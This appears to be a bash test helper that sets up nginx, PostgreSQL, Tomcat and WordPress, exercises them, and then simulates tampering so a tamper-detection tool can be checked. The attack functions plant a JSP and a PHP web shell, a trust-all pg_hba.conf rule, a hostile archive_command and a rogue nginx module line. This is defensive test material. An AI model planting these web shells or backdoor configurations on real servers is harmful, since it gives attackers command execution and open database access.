# Sourced by the step of the applications. For each: what it needs before it is recorded, how it is used, and what an
# attacker changes; attack_NAME prints the path of each change.
# shellcheck shell=bash

# So much that nginx keeps the body of the request in a file.
upload() {
  on_server dd if=/dev/zero of=/tmp/upload bs=1M count=2 status=none
}

prepare_nginx() {
  on_server sh -c 'cat >/var/www/html/index.html && ln -s ../sites-available/up /etc/nginx/sites-enabled/up' <<<'<h1>Shop</h1>'
  on_server sh -c 'cat >/etc/nginx/sites-available/up' <<'CONF'
client_max_body_size 8m;
server {
  listen 8000;
  location / { proxy_pass http://127.0.0.1:80; }
}
CONF
}
use_nginx() {
  on_server systemctl start nginx
  [ "$(on_server curl -sf localhost/)" = '<h1>Shop</h1>' ]
  upload
  on_server curl -s --data-binary @/tmp/upload localhost:8000/
  on_server curl -s localhost/missing
  on_server systemctl reload nginx
  on_server systemctl restart nginx
  on_server logrotate -s /tmp/status -f /etc/logrotate.d/nginx
  on_server curl -sf localhost/
}
attack_nginx() {
  on_server bash -e <<'ATTACK'
echo '<h1>Hacked</h1>' >/var/www/html/index.html
echo 'load_module /tmp/x.so;' >/etc/nginx/modules-enabled/99-x.conf
systemctl stop nginx
echo x >>/usr/sbin/nginx
echo x >/var/lib/nginx/body/tool
chmod 777 /var/log/nginx
ATTACK
  printf '%s\n' /var/www/html/index.html /etc/nginx/modules-enabled/99-x.conf /usr/sbin/nginx /var/lib/nginx/body/tool /var/log/nginx
}

prepare_postgresql() { :; }
postgres() {
  on_server su postgres -c "psql -v ON_ERROR_STOP=1 -qAt $1"
}
use_postgresql() {
  on_server systemctl start postgresql
  postgres "" <<'SQL'
CREATE DATABASE shop;
\c shop
CREATE TABLE item AS SELECT i, md5(i::text) FROM generate_series(1, 300000) i;
CREATE INDEX ON item (md5);
CREATE UNLOGGED TABLE cart (i int);
INSERT INTO cart VALUES (1);
SET work_mem = '64kB';
SELECT count(*) FROM (SELECT DISTINCT md5 FROM item ORDER BY 1) s;
BEGIN; DELETE FROM item WHERE i % 2 = 0; COMMIT;
SELECT pg_create_physical_replication_slot('standby', true);
VACUUM FULL item;
CHECKPOINT;
SELECT pg_switch_wal();
CREATE DATABASE gone;
DROP DATABASE gone;
SQL
  on_server systemctl restart postgresql
  [ "$(postgres "-d shop" <<<'SELECT count(*) FROM item')" = 150000 ]
}
attack_postgresql() {
  postgres "" <<<"ALTER SYSTEM SET archive_command = 'sh /tmp/x'"
  on_server bash -e <<'ATTACK'
cd /var/lib/postgresql/15/main
echo x >base/1/tool
echo x >pg_wal/000000010000000000000001.sh
touch standby.signal
echo 'host all all 0.0.0.0/0 trust' >>/etc/postgresql/15/main/pg_hba.conf
echo x >>/usr/lib/postgresql/15/lib/plpgsql.so
ATTACK
  printf '%s\n' /etc/postgresql/15/main/pg_hba.conf /usr/lib/postgresql/15/lib/plpgsql.so
  printf '/var/lib/postgresql/15/main/%s\n' postgresql.auto.conf base/1/tool pg_wal/000000010000000000000001.sh standby.signal
}

prepare_tomcat() {
  on_server sh -c 'mkdir -p /var/lib/tomcat10/webapps/shop && cat >/var/lib/tomcat10/webapps/shop/index.jsp' <<'JSP'
<% session.setAttribute("seen", "yes"); %>Items: <%= 6 * 7 %>
JSP
}
tomcat_page() {
  local tries
  for tries in $(seq 60); do
    if [ "$(on_server curl -sf -c /tmp/jar localhost:8080/shop/)" = 'Items: 42' ]; then
      return
    fi
    sleep 0.5
  done
  echo "no page after $tries tries"
  return 1
}
use_tomcat() {
  on_server systemctl start tomcat10
  tomcat_page
  on_server find /var/cache/tomcat10 -name '*.class' | grep .
  on_server systemctl restart tomcat10
  tomcat_page
}
attack_tomcat() {
  on_server bash -e <<'ATTACK'
echo '<% Runtime.getRuntime().exec(request.getParameter("c")); %>' >/var/lib/tomcat10/webapps/shop/c.jsp
echo ' ' >>/var/lib/tomcat10/webapps/ROOT/index.html
echo '<Context docBase="/tmp"/>' >/etc/tomcat10/Catalina/localhost/t.xml
echo ' ' >>/etc/tomcat10/tomcat-users.xml
echo x >/var/lib/tomcat10/policy/more.policy
echo x >>/usr/share/java/tomcat10-catalina.jar
ATTACK
  printf '%s\n' /var/lib/tomcat10/webapps/shop/c.jsp /var/lib/tomcat10/webapps/ROOT/index.html /etc/tomcat10/Catalina/localhost/t.xml \
    /etc/tomcat10/tomcat-users.xml /var/lib/tomcat10/policy/more.policy \
    "$(on_server readlink -f /usr/share/java/tomcat10-catalina.jar)"
}

prepare_wordpress() {
  on_server bash -e <<'PREPARE'
cat >/etc/apache2/sites-available/wordpress.conf <<'CONF'
<VirtualHost *:80>
  ServerName localhost
  DocumentRoot /usr/share/wordpress
  Alias /wp-content /var/lib/wordpress/wp-content
  <Directory /usr/share/wordpress>
    Require all granted
  </Directory>
  <Directory /var/lib/wordpress/wp-content>
    Require all granted
  </Directory>
</VirtualHost>
CONF
a2dissite -q 000-default
a2ensite -q wordpress
cat >/etc/wordpress/config-localhost.php <<'PHP'
<?php
define('DB_NAME', 'wordpress');
define('DB_USER', 'wordpress');
define('DB_PASSWORD', 'secret');
define('DB_HOST', 'localhost');
define('WP_CONTENT_DIR', '/var/lib/wordpress/wp-content');
PHP
chown root:www-data /etc/wordpress/config-localhost.php
chmod 640 /etc/wordpress/config-localhost.php
PREPARE
}
use_wordpress() {
  on_server bash -e -o pipefail <<'USE'
systemctl start mariadb apache2
mariadb -e "CREATE DATABASE wordpress; GRANT ALL ON wordpress.* TO wordpress@localhost IDENTIFIED BY 'secret'"
cd /tmp
curl -sSf -d 'weblog_title=Shop&user_name=admin&admin_password=Secret-12345&admin_password2=Secret-12345' \
  -d 'admin_email=admin@example.com&pw_weak=1' 'http://localhost/wp-admin/install.php?step=2' >install.html
grep -q 'WordPress has been installed' install.html
curl -sSf -o /dev/null -c jar -b 'wordpress_test_cookie=WP%20Cookie%20check' \
  -d 'log=admin&pwd=Secret-12345&testcookie=1' http://localhost/wp-login.php
nonce=$(curl -sSf -b jar 'http://localhost/wp-admin/admin-ajax.php?action=rest-nonce')
curl -sSf -b jar -H "X-WP-Nonce: $nonce" -d 'title=Hello&content=World&status=publish' \
  'http://localhost/?rest_route=/wp/v2/posts' | grep '"status":"publish"'
base64 -d >p.png <<<iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
curl -sSf -b jar -H "X-WP-Nonce: $nonce" -H 'Content-Disposition: attachment; filename=p.png' -H 'Content-Type: image/png' \
  --data-binary @p.png 'http://localhost/?rest_route=/wp/v2/media' | grep uploads
find /var/lib/wordpress/wp-content/uploads -name p.png | grep .
curl -sSf -o /dev/null -d 'author=x&email=x@example.com&comment=hi&comment_post_ID=1' http://localhost/wp-comments-post.php
curl -sSf http://localhost/ | grep '<title>Shop'
systemctl restart mariadb apache2
curl -sSf http://localhost/ | grep '<title>Shop'
USE
}
attack_wordpress() {
  on_server bash -e <<'ATTACK'
cd /var/lib/wordpress/wp-content
month=$(echo uploads/*/*)
echo '<?php system($_GET["c"]);' >"$month/c.php"
cp "$month/c.php" "$month/c.png.phtml"
cp "$month/c.php" plugins/c.php
echo ' ' >>index.php
echo ' ' >>/usr/share/wordpress/wp-login.php
echo ' ' >>/etc/wordpress/config-localhost.php
mariadb -e "SELECT 'x' INTO OUTFILE '/var/lib/mysql/wordpress/c.php'"
printf '/var/lib/wordpress/wp-content/%s\n' "$month/c.php" "$month/c.png.phtml" plugins/c.php index.php
printf '%s\n' /usr/share/wordpress/wp-login.php /etc/wordpress/config-localhost.php /var/lib/mysql/wordpress/c.php
ATTACK
}
